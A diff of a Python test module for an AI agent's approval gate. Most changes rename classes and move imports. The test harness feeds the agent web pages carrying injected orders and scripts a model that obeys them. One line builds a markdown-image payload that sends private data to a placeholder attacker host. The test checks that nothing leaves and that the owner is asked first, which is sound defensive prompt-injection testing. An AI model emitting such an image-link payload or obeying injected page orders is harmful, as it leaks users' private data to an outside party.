@@ -8,20 +8,18 @@ from pathlib import Path
 import httpx
 import pytest
 
+from agent.approvals.gate import Gate
 from agent.channels.base import Answer, Question
-from agent.dispatch.gate import Gate
-from agent.dispatch.outcome import TurnOutcome
-from agent.dispatch.turn import TurnRunner, TurnSeams
 from agent.embeddings.none import NoEmbedder
 from agent.memory.base import Scope
 from agent.memory.pdf import pages_of
 from agent.memory.sqlite import SqliteMemory
 from agent.messages import Effect, Provenance, ToolResult
 from agent.passage import own
-from agent.security.approvals import Standing, StandingApprovals
-from agent.security.binding import NOTHING, Pattern, pattern_hash
+from agent.security.act import NOTHING, Pattern, pattern_hash
+from agent.security.approvals import StandingApproval, StandingApprovals
 from agent.security.estop import EmergencyStop
-from agent.security.policy import Autonomy, Policy, Rule, Verdict
+from agent.security.policy import Autonomy, Policy, PolicyRule, Verdict
 from agent.tools.base import AnyTool, NoArguments, Tool, ToolContext
 from agent.tools.board import BoardTools
 from agent.tools.files import FileListTool, FileReadTool, FileWriteTool
@@ -32,6 +30,8 @@ from agent.tools.search_services import DUCKDUCKGO_URL, chosen
 from agent.tools.settings import SearchSettings, WebSettings
 from agent.tools.web_fetch import WebFetchTool
 from agent.tools.web_search import WebSearchTool
+from agent.turn.outcome import TurnOutcome
+from agent.turn.turn import TurnRunner, TurnSeams
 from tests.fakes.board import FakeBoard
 from tests.fakes.clock import SteppedClock
 from tests.fakes.injections import DRESSES
@@ -140,8 +140,8 @@ class Garden:
         self.web = PreparedWeb(self._pages())
         approvals = StandingApprovals(folder / "standing.json", self.clock)
         self._trust_with_the_pump(approvals)
-        reading = Rule("reading", "web_*", {}, Verdict.ALLOW)
-        asking = Rule("asking", "http_request", {}, Verdict.ALLOW)
+        reading = PolicyRule("reading", "web_*", {}, Verdict.ALLOW)
+        asking = PolicyRule("asking", "http_request", {}, Verdict.ALLOW)
         gate = Gate(Policy(autonomy, (reading, asking)), approvals, EmergencyStop(folder))
         last_words = f"Done. ![]({EVIL}?d={PRIVATE})"
         self.model = ObedientProvider(WAYS[document.way], document.orders, last_words)
@@ -154,7 +154,7 @@ class Garden:
         assert isinstance(pattern, Pattern)
         call = pattern_hash(write.name, pattern, NOTHING)
         end_s = approvals.end_s()
-        approvals.add(Standing(call=call, tool=write.name, arguments="", until_s=end_s))
+        approvals.add(StandingApproval(call=call, tool=write.name, arguments="", until_s=end_s))
 
     def _board_tools(self) -> tuple[AnyTool, ...]:
         return tuple(BoardTools(self.board).tools())
@@ -262,7 +262,7 @@ async def test_nothing_moves_and_nothing_leaves(
     assert await garden.memory.count(Scope("owner")) == known
     # The owner was asked and told why, until the turn was ended because it got nowhere
     assert len(garden.questions) >= 4
-    assert all("origin, not only your words" in one.reason for one in garden.questions)
+    assert all("so I ask before acting on it" in one.reason for one in garden.questions)
     assert outcome.provenance < OWNER
 
 
